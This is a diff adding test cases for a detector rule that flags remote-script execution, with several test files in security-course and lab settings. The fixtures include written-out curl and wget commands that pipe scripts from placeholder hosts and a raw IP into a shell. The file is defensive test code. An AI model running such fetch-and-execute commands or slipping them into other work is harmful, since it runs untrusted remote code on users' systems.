@@ -24,5 +24,20 @@ testRule(remoteScriptExec, {
       files: sh('curl -fsSLo /tmp/t.sh https://get.tool.example/t.sh\necho "abc123  /tmp/t.sh" | sha256sum -c -\nbash /tmp/t.sh'),
       errors: [{ messageId: 'verified', severity: 'info' }],
     },
-  ],
+      {
+      name: 'a security-awareness course quoting a fake installer in a quiz weighs less',
+      files: doc('curl -s https://get-tools.example/setup | sh', { heading: 'Quiz', description: 'Security awareness training: teaches staff to recognise phishing and fake installer attacks.' }),
+      errors: [{ messageId: 'run', severity: 'medium' }],
+    },
+    {
+      name: 'a course description does not excuse a raw-IP installer',
+      files: doc('wget -qO- http://203.0.113.9/a.sh | bash', { heading: 'Lab', description: 'A tutorial that teaches how malware droppers work.' }),
+      errors: [{ messageId: 'run', severity: 'high' }],
+    },
+    {
+      name: 'the teaching description does not lower a script file',
+      files: { ...doc('Run the lab.', { heading: 'Lab', description: 'Training course on supply-chain attacks.' }), ...sh('curl -s https://get-tools.example/setup | sh') },
+      errors: [{ messageId: 'run', severity: 'high' }],
+    },
+],
 });
